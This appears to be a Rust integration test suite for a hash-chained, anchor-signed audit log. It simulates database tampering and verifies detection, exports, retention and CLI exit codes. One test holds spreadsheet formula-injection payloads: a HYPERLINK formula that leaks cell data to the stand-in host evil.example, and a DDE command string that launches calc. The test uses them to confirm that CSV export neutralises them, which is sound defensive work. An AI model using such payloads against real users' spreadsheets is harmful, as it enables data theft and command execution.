//! The audit trail against real Postgres and Redis: tampering of every kind is caught at the
//! right row, concurrent writers keep one gapless chain, a failed audit append rolls the
//! change back, exports and retention are audited, and the CLI's exit codes.

use std::path::{Path, PathBuf};

use app::backend::audit::{
    anchor::{self, Anchor},
    export::{self, AuditFilter, ExportFormat},
    partitions, record,
    verify::{self, reason, VerifyReport},
    Actor, ActorKind, AuditEvent,
};
use app::backend::db::{
    audit::{self as audit_db, AuditLog},
    list,
};
use sqlx::{AssertSqlSafe, Executor, PgPool};

use crate::common::{redis_url, text, TestDb};

/// A folder of the test's own, removed when dropped unless the test failed.
struct TempDir(PathBuf);

impl std::ops::Deref for TempDir {
    type Target = Path;
    fn deref(&self) -> &Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}

fn temp_dir() -> TempDir {
    let d = std::env::temp_dir().join(format!("deltran-audit-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&d).unwrap();
    TempDir(d)
}

const KEY: &str = "test-anchor-key-0123456789abcdef0123";

/// Appends `n` rows, each through `record` in a transaction of its own.
async fn append(pool: &PgPool, n: usize) {
    for i in 0..n {
        let mut tx = pool.begin().await.unwrap();
        record(
            &mut tx,
            AuditEvent::new(
                Actor::system("test"),
                "user.update",
                "user",
                Some(format!("u{i}")),
            )
            .metadata(serde_json::json!({"i": i, "note": "x"})),
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();
    }
}

async fn check(pool: &PgPool, anchor: Option<&Anchor>) -> VerifyReport {
    verify::verify(pool, None, anchor, |_, _| {}).await.unwrap()
}

/// Runs SQL as the superuser with triggers off, as an attacker with database access would.
async fn tamper(pool: &PgPool, sql: &str) {
    let mut conn = pool.acquire().await.unwrap();
    conn.execute("SET session_replication_role = replica")
        .await
        .unwrap();
    conn.execute(AssertSqlSafe(sql.to_string())).await.unwrap();
    conn.execute("SET session_replication_role = origin")
        .await
        .unwrap();
}

fn broken(r: &VerifyReport) -> (i64, &str) {
    let b = r.first_broken.as_ref().expect("a broken row");
    (b.id, b.reason.as_str())
}

async fn anchor_now(pool: &PgPool, dir: &Path) -> Anchor {
    let mut redis = server::db::redis(&redis_url()).unwrap();
    let prefix = crate::common::test_redis_prefix();
    let anchor = anchor::anchor_now(pool, Some((&mut redis, &prefix)), dir, KEY)
        .await
        .unwrap()
        .expect("rows to anchor");
    // The copy for the other services is the anchor itself (taken away again here).
    let copy: String = redis::AsyncCommands::get_del(&mut redis, anchor::redis_key(&prefix))
        .await
        .unwrap();
    assert_eq!(copy, serde_json::to_string(&anchor).unwrap());
    anchor
}

#[tokio::test]
async fn an_intact_chain_verifies_and_matches_its_anchor() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    let dir = temp_dir();
    let a = anchor_now(&t.pool, &dir).await;
    assert_eq!((a.last_id, a.row_count), (30, 30));
    let kept = anchor::highest_anchor(&dir, KEY).unwrap().unwrap();
    assert_eq!(kept, a);
    let r = check(&t.pool, Some(&a)).await;
    assert!(r.ok, "{r:?}");
    assert_eq!(r.checked, 30);
    assert_eq!(r.anchor, Some(a.created_at));
    t.drop_db().await;
}

#[tokio::test]
async fn an_edited_field_is_a_hash_mismatch_at_that_row() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    tamper(
        &t.pool,
        "UPDATE deltran.audit_log SET actor_name = 'mallory' WHERE id = 10",
    )
    .await;
    let r = check(&t.pool, None).await;
    assert!(!r.ok);
    assert_eq!(broken(&r), (10, reason::HASH_MISMATCH));
    assert_eq!(r.checked, 9);
    assert!(r.first_broken.unwrap().timestamp.is_some());
    t.drop_db().await;
}

#[tokio::test]
async fn a_field_set_to_null_is_a_hash_mismatch_too() {
    let t = TestDb::migrated().await;
    append(&t.pool, 5).await;
    tamper(
        &t.pool,
        "UPDATE deltran.audit_log SET resource_type = NULL WHERE id = 3",
    )
    .await;
    assert_eq!(
        broken(&check(&t.pool, None).await),
        (3, reason::HASH_MISMATCH)
    );
    t.drop_db().await;
}

#[tokio::test]
async fn a_row_deleted_in_the_middle_is_a_gap() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    tamper(&t.pool, "DELETE FROM deltran.audit_log WHERE id = 15").await;
    let r = check(&t.pool, None).await;
    assert_eq!(broken(&r), (16, reason::GAP_IN_IDS));
    t.drop_db().await;
}

#[tokio::test]
async fn the_newest_rows_deleted_are_caught_only_by_the_anchor() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    let dir = temp_dir();
    let a = anchor_now(&t.pool, &dir).await;
    tamper(&t.pool, "DELETE FROM deltran.audit_log WHERE id >= 28").await;
    assert!(
        check(&t.pool, None).await.ok,
        "without the anchor it looks fine"
    );
    let r = check(&t.pool, Some(&a)).await;
    assert_eq!(broken(&r), (28, reason::HEAD_BEHIND_ANCHOR));
    assert_eq!(r.checked, 27);
    t.drop_db().await;
}

#[tokio::test]
async fn a_chain_rehashed_after_an_edit_is_caught_by_the_anchor() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    let dir = temp_dir();
    let a = anchor_now(&t.pool, &dir).await;
    // Edit row 20, then recompute its hash and every later one, as a careful attacker would.
    let mut previous = audit_db::get(&t.pool, 19)
        .await
        .unwrap()
        .unwrap()
        .event_hash;
    for id in 20..=30 {
        let mut row = audit_db::get(&t.pool, id).await.unwrap().unwrap();
        if id == 20 {
            row.actor_name = "mallory".into();
        }
        row.previous_hash = previous.clone();
        row.event_hash = row.compute_hash();
        tamper(
            &t.pool,
            &format!(
                "UPDATE deltran.audit_log SET actor_name = '{}', previous_hash = '{}', \
                 event_hash = '{}' WHERE id = {id}",
                row.actor_name, row.previous_hash, row.event_hash
            ),
        )
        .await;
        previous = row.event_hash;
    }
    assert!(
        check(&t.pool, None).await.ok,
        "the chain itself is consistent"
    );
    let r = check(&t.pool, Some(&a)).await;
    assert_eq!(broken(&r), (30, reason::ANCHOR_MISMATCH));
    t.drop_db().await;
}

/// `audit.anchor_refused` rows, all of them critical.
async fn refused_anchors(pool: &PgPool) -> i64 {
    sqlx::query_scalar(
        "SELECT count(*) FROM deltran.audit_log \
         WHERE action = $1 AND severity = 'critical' AND result = 'failure'",
    )
    .bind(anchor::REFUSED_ACTION)
    .fetch_one(pool)
    .await
    .unwrap()
}

#[tokio::test]
async fn a_truncated_chain_is_never_anchored_and_verify_names_the_truncation() {
    let t = TestDb::migrated().await;
    append(&t.pool, 30).await;
    let dir = temp_dir();
    let out = cli(&t.url, &dir, &["audit", "anchor"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    // Cut the last ten rows and rewind the head, then "restart": the chain looks whole.
    tamper(&t.pool, "DELETE FROM deltran.audit_log WHERE id > 20").await;
    tamper(
        &t.pool,
        "UPDATE deltran.audit_head SET last_id = 20, \
         last_hash = (SELECT event_hash FROM deltran.audit_log WHERE id = 20)",
    )
    .await;
    assert!(
        check(&t.pool, None).await.ok,
        "without an anchor it looks fine"
    );

    let out = cli(&t.url, &dir, &["audit", "anchor"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    let err = text(&out.stderr);
    assert!(
        err.contains("audit anchor refused") && err.contains("below the anchor"),
        "{err}"
    );
    assert_eq!(refused_anchors(&t.pool).await, 1);
    let files = std::fs::read_dir(dir.join("audit-anchors"))
        .unwrap()
        .count();
    assert_eq!(files, 2, "still the first anchor and latest.json only");

    // An anchor of the short chain in latest.json (as the console signed before this fix)
    // does not hide the cut: the highest anchor kept counts.
    let head = audit_db::get(&t.pool, 21).await.unwrap().unwrap();
    let short = Anchor::new(21, &head.event_hash, 21, KEY);
    std::fs::write(
        dir.join("audit-anchors/latest.json"),
        serde_json::to_vec(&short).unwrap(),
    )
    .unwrap();
    let out = cli(&t.url, &dir, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    let err = text(&out.stderr);
    assert!(
        err.contains("head behind the anchor") && err.contains("truncated"),
        "{err}"
    );
    assert!(err.contains("signed 30 rows"), "{err}");

    // With no anchor file at all, verify says so; it never falls back to the Redis copy.
    std::fs::remove_dir_all(dir.join("audit-anchors")).unwrap();
    let out = cli(&t.url, &dir, &["audit", "verify"]);
    assert!(
        text(&out.stdout).contains("no anchor file"),
        "{}",
        text(&out.stdout)
    );
    t.drop_db().await;
}

#[tokio::test]
async fn an_anchor_is_refused_when_the_anchored_row_changed() {
    let t = TestDb::migrated().await;
    append(&t.pool, 10).await;
    let dir = temp_dir();
    anchor_now(&t.pool, &dir).await;
    tamper(
        &t.pool,
        &format!(
            "UPDATE deltran.audit_log SET event_hash = '{}' WHERE id = 10",
            "ab".repeat(32)
        ),
    )
    .await;
    append(&t.pool, 2).await;
    let err = anchor::anchor_now(&t.pool, None, &dir, KEY)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("row 10 no longer has the hash"),
        "{err}"
    );
    assert_eq!(refused_anchors(&t.pool).await, 1);
    assert_eq!(
        anchor::highest_anchor(&dir, KEY).unwrap().unwrap().last_id,
        10
    );
    t.drop_db().await;
}

#[tokio::test]
async fn a_range_check_links_to_the_row_before_it() {
    let t = TestDb::migrated().await;
    append(&t.pool, 20).await;
    let ts = |id: i64| {
        let pool = t.pool.clone();
        async move { audit_db::get(&pool, id).await.unwrap().unwrap().timestamp }
    };
    let (from, to) = (ts(8).await, ts(15).await);
    let r = verify::verify(&t.pool, Some((from, to)), None, |_, _| {})
        .await
        .unwrap();
    assert!(r.ok, "{r:?}");
    assert_eq!(r.checked, 7);
    // Break the link into the range: row 7's hash no longer matches row 8's previous_hash.
    tamper(
        &t.pool,
        &format!(
            "UPDATE deltran.audit_log SET event_hash = '{}' WHERE id = 7",
            "e".repeat(64)
        ),
    )
    .await;
    let r = verify::verify(&t.pool, Some((from, to)), None, |_, _| {})
        .await
        .unwrap();
    assert_eq!(broken(&r), (8, reason::BROKEN_LINK));
    t.drop_db().await;
}

#[tokio::test]
async fn eight_concurrent_writers_leave_one_gapless_chain() {
    let t = TestDb::migrated().await;
    let pool = server::db::pool(&t.url, 10).unwrap();
    let tasks: Vec<_> = (0..8)
        .map(|_| {
            let pool = pool.clone();
            tokio::spawn(async move { append(&pool, 25).await })
        })
        .collect();
    for task in tasks {
        task.await.unwrap();
    }
    let r = check(&t.pool, None).await;
    assert!(r.ok, "{r:?}");
    assert_eq!(r.checked, 200);
    let (min, max, n): (i64, i64, i64) =
        sqlx::query_as("SELECT min(id), max(id), count(*) FROM deltran.audit_log")
            .fetch_one(&t.pool)
            .await
            .unwrap();
    assert_eq!((min, max, n), (1, 200, 200));
    pool.close().await;
    t.drop_db().await;
}

#[tokio::test]
async fn a_change_whose_audit_append_fails_is_rolled_back() {
    let t = TestDb::migrated().await;
    append(&t.pool, 3).await;
    let mut tx = t.pool.begin().await.unwrap();
    sqlx::query(
        "INSERT INTO deltran.users (email, username, password_hash, role) \
         VALUES ('ghost@example.com', 'ghost', '$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA', 'viewer')",
    )
    .execute(&mut *tx)
    .await
    .unwrap();
    // Text Postgres refuses (a NUL byte): the audit insert fails.
    let err = record(
        &mut tx,
        AuditEvent::new(Actor::system("test"), "user.create\u{0}", "user", None),
    )
    .await;
    assert!(err.is_err());
    drop(tx);
    let users: i64 =
        sqlx::query_scalar("SELECT count(*) FROM deltran.users WHERE username = 'ghost'")
            .fetch_one(&t.pool)
            .await
            .unwrap();
    assert_eq!(users, 0, "the user must not exist without its audit row");
    let head: i64 = sqlx::query_scalar("SELECT last_id FROM deltran.audit_head")
        .fetch_one(&t.pool)
        .await
        .unwrap();
    assert_eq!(head, 3);
    append(&t.pool, 1).await;
    assert!(check(&t.pool, None).await.ok);
    t.drop_db().await;
}

#[tokio::test]
async fn an_anchor_with_a_bad_signature_is_an_error() {
    let t = TestDb::migrated().await;
    append(&t.pool, 3).await;
    let dir = temp_dir();
    anchor_now(&t.pool, &dir).await;
    let path = dir.join("audit-anchors/latest.json");
    let mut a: Anchor = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    a.last_id = 2;
    std::fs::write(&path, serde_json::to_vec(&a).unwrap()).unwrap();
    let err = anchor::highest_anchor(&dir, KEY).unwrap_err();
    assert!(err.to_string().contains("does not verify"), "{err}");
    let err = anchor::highest_anchor(&dir, "another key");
    assert!(err.is_err());
    t.drop_db().await;
}

#[tokio::test]
async fn exports_stream_every_matching_row_and_are_audited() {
    let t = TestDb::migrated().await;
    append(&t.pool, 25).await;
    let actor = Actor::system("exporter");
    let all = AuditFilter::default();
    let csv = export::collect(
        export::export(&t.pool, &all, ExportFormat::Csv, actor.clone())
            .await
            .unwrap(),
    )
    .await
    .unwrap();
    let csv = String::from_utf8(csv).unwrap();
    // The header, the 25 rows and the export's own audit row (written before streaming).
    assert_eq!(csv.lines().count(), 1 + 26);
    assert!(csv.starts_with("id,event_id,timestamp,"));

    let only_updates = AuditFilter {
        action: Some("user.update".into()),
        ..Default::default()
    };
    let jsonl = export::collect(
        export::export(&t.pool, &only_updates, ExportFormat::Jsonl, actor.clone())
            .await
            .unwrap(),
    )
    .await
    .unwrap();
    let lines: Vec<serde_json::Value> = String::from_utf8(jsonl)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 25);
    assert_eq!(lines[0]["id"], 1);
    assert_eq!(lines[0]["metadata"]["note"], "x");

    let exports: Vec<(String, String)> = sqlx::query_as(
        "SELECT actor_name, metadata->>'format' FROM deltran.audit_log \
         WHERE action = 'audit.export' ORDER BY id",
    )
    .fetch_all(&t.pool)
    .await
    .unwrap();
    assert_eq!(
        exports,
        vec![
            ("exporter".to_string(), "csv".to_string()),
            ("exporter".to_string(), "jsonl".to_string())
        ]
    );
    assert!(check(&t.pool, None).await.ok);
    t.drop_db().await;
}

#[tokio::test]
async fn csv_cells_from_clients_cannot_run_as_formulas_and_json_lines_stay_exact() {
    let t = TestDb::migrated().await;
    let agent = r#"=HYPERLINK("http://evil.example/?x="&A1,"Open")"#;
    let username = "@SUM(1+1)*cmd|' /C calc'!A0";
    // A failed sign-in: its username and user agent are whatever the client sent.
    let mut tx = t.pool.begin().await.unwrap();
    app::backend::audit::append(
        &mut tx,
        &AuditEvent::new(
            Actor {
                id: None,
                kind: ActorKind::User,
                name: username.into(),
            },
            "auth.login",
            "session",
            None,
        ),
        &app::backend::context::RequestContext {
            request_id: "r-formula".into(),
            ip: None,
            user_agent: Some(agent.into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let only = AuditFilter {
        action: Some("auth.login".into()),
        ..Default::default()
    };
    let export = |format| {
        let pool = t.pool.clone();
        let only = only.clone();
        async move {
            let stream = export::export(&pool, &only, format, Actor::system("auditor"))
                .await
                .unwrap();
            String::from_utf8(export::collect(stream).await.unwrap()).unwrap()
        }
    };
    let csv = export(ExportFormat::Csv).await;
    let row = csv.lines().nth(1).expect("the row");
    assert!(
        row.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")""#),
        "{row}"
    );
    assert!(row.contains("'@SUM(1+1)*cmd|' /C calc'!A0"), "{row}");
    // No cell, quoted or not, starts with a formula character.
    for cell in row.split(',') {
        let cell = cell.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell} in {row}");
    }
    let jsonl = export(ExportFormat::Jsonl).await;
    let line: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(line["user_agent"], agent);
    assert_eq!(line["actor_name"], username);
    assert!(check(&t.pool, None).await.ok);
    t.drop_db().await;
}

#[tokio::test]
async fn the_list_pages_by_keyset_and_filters() {
    let t = TestDb::migrated().await;
    append(&t.pool, 23).await;
    let all = AuditFilter::default();
    let mut seen = Vec::new();
    let mut cursor = None;
    loop {
        let (rows, next) = list::fetch::<AuditLog>(&t.pool, &all, cursor.as_ref(), 10)
            .await
            .unwrap();
        seen.extend(rows.iter().map(|r| r.id));
        match next {
            Some(c) => cursor = Some(c),
            None => break,
        }
    }
    assert_eq!(seen, (1..=23).rev().collect::<Vec<i64>>());
    let one = AuditFilter {
        resource_id: Some("u4".into()),
        actor: Some("test".into()),
        ..Default::default()
    };
    let (rows, next) = list::fetch::<AuditLog>(&t.pool, &one, None, 10)
        .await
        .unwrap();
    assert_eq!((rows.len(), next), (1, None));
    assert_eq!(rows[0].id, 5);
    assert!(audit_db::get(&t.pool, 99).await.unwrap().is_none());
    t.drop_db().await;
}

#[tokio::test]
async fn evidence_packs_hold_the_export_its_verification_and_a_signed_manifest() {
    let t = TestDb::migrated().await;
    append(&t.pool, 12).await;
    let dir = temp_dir();
    let a = anchor_now(&t.pool, &dir).await;
    let out = dir.join("evidence.tar");
    let manifest = export::write_evidence_pack(
        &t.pool,
        &AuditFilter::default(),
        Some(&a),
        KEY,
        Actor::system("auditor"),
        &out,
    )
    .await
    .unwrap();
    assert!(manifest.verify_signature(KEY));
    assert!(!manifest.verify_signature("other"));
    let listing = std::process::Command::new("tar")
        .arg("tf")
        .arg(&out)
        .output()
        .unwrap();
    assert!(listing.status.success());
    assert_eq!(
        text(&listing.stdout).lines().collect::<Vec<_>>(),
        ["audit-export.jsonl", "verification.json", "manifest.json"]
    );
    let x = dir.join("x");
    std::fs::create_dir_all(&x).unwrap();
    assert!(std::process::Command::new("tar")
        .arg("xf")
        .arg(&out)
        .arg("-C")
        .arg(&x)
        .status()
        .unwrap()
        .success());
    let sums = std::process::Command::new("sha256sum")
        .arg("-c")
        .current_dir(&x)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin
                .take()
                .unwrap()
                .write_all(manifest.sha256sums.as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    assert!(sums.status.success(), "{}", text(&sums.stdout));
    let report: VerifyReport =
        serde_json::from_slice(&std::fs::read(x.join("verification.json")).unwrap()).unwrap();
    assert!(report.ok);
    let exported = std::fs::read_to_string(x.join("audit-export.jsonl")).unwrap();
    assert_eq!(exported.lines().count(), 13, "12 rows and the export's own");
    t.drop_db().await;
}

/// Runs the binary with a data directory of its own; then removes the Redis keys it wrote
/// (`audit anchor` copies the anchor there, with no TTL).
fn cli(url: &str, data_dir: &Path, args: &[&str]) -> std::process::Output {
    let mut cmd = crate::common::binary(url);
    let prefix = crate::common::redis_prefix_of(&cmd);
    let output = cmd
        .args(args)
        .env("DATA_DIR", data_dir)
        .env("AUDIT_ANCHOR_KEY", KEY)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    crate::common::forget_redis_prefix(&prefix);
    output
}

#[tokio::test]
async fn the_cli_verifies_anchors_exports_and_exits_1_on_tampering() {
    let t = TestDb::migrated().await;
    append(&t.pool, 10).await;
    let dir = temp_dir();
    let out = cli(&t.url, &dir, &["audit", "anchor"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = cli(&t.url, &dir, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).starts_with("intact: 10 rows, head matches anchor of "),
        "{}",
        text(&out.stdout)
    );
    let out = cli(
        &t.url,
        &dir,
        &[
            "audit",
            "verify",
            "--from",
            "2000-01-01",
            "--to",
            "2999-01-01",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    let csv = dir.join("all.csv");
    let out = cli(
        &t.url,
        &dir,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--out",
            csv.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&csv).unwrap().lines().count(), 12);
    let out = cli(&t.url, &dir, &["audit", "partitions"]);
    assert!(text(&out.stdout).contains("deltran.audit_log_default"));

    tamper(
        &t.pool,
        "UPDATE deltran.audit_log SET result = 'denied' WHERE id = 4",
    )
    .await;
    let out = cli(&t.url, &dir, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1));
    let err = text(&out.stderr);
    assert_eq!(err.trim_end().lines().count(), 1, "{err}");
    assert!(
        err.contains("broken at row 4") && err.contains("hash mismatch"),
        "{err}"
    );

    for args in [
        &["audit", "verify", "--from", "yesterday"][..],
        &["audit", "export", "--format", "xml"],
        &["audit", "evidence"],
        &["audit", "export", "--format", "csv", "--result", "maybe"],
    ] {
        let out = cli(&t.url, &dir, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(text(&out.stderr).trim_end().lines().count(), 1, "{args:?}");
    }
    let out = cli(
        &t.url,
        &dir,
        &[
            "audit",
            "verify",
            "--from",
            "2026-02-01",
            "--to",
            "2026-01-01",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    t.drop_db().await;
}

#[tokio::test]
async fn retention_detaches_old_partitions_and_audits_it() {
    let t = TestDb::migrated().await;
    let dir = temp_dir();
    // 60 rows spread over the last 150 days: several monthly partitions.
    // The benchmarks' generator, which lives in its own binary (not the console's).
    let out = crate::common::bench_binary(&t.url)
        .args(["generate", "--rows", "60", "--days", "150"])
        .env("DATA_DIR", &*dir)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let before = partitions::list_partitions(&t.pool).await.unwrap();
    let oldest = before[0].clone();
    let keep_from = before[2].month.unwrap();
    let detached =
        partitions::detach_partitions_before(&t.pool, keep_from, Actor::system("retention"))
            .await
            .unwrap();
    assert_eq!(detached.len(), 2);
    assert_eq!(detached[0].name, oldest.name);
    assert!(detached.iter().all(|d| d.rows > 0));

    // Still a table, no longer part of the log.
    let exists: bool = sqlx::query_scalar("SELECT to_regclass($1) IS NOT NULL")
        .bind(&oldest.name)
        .fetch_one(&t.pool)
        .await
        .unwrap();
    assert!(exists);
    let attached: bool = sqlx::query_scalar(
        "SELECT EXISTS (SELECT 1 FROM pg_inherits WHERE inhrelid = to_regclass($1))",
    )
    .bind(&oldest.name)
    .fetch_one(&t.pool)
    .await
    .unwrap();
    assert!(!attached);
    let kept: i64 = sqlx::query_scalar(AssertSqlSafe(format!(
        "SELECT count(*) FROM {}",
        oldest.name
    )))
    .fetch_one(&t.pool)
    .await
    .unwrap();
    assert_eq!(kept, detached[0].rows);

    let audited: Vec<String> = sqlx::query_scalar(
        "SELECT resource_id FROM deltran.audit_log WHERE action = 'audit.partition_detach' ORDER BY id",
    )
    .fetch_all(&t.pool)
    .await
    .unwrap();
    assert_eq!(
        audited,
        detached.iter().map(|d| d.name.clone()).collect::<Vec<_>>()
    );
    // The live chain still verifies from where retention cut it.
    let r = check(&t.pool, None).await;
    assert!(r.ok, "{r:?}");
    t.drop_db().await;
}
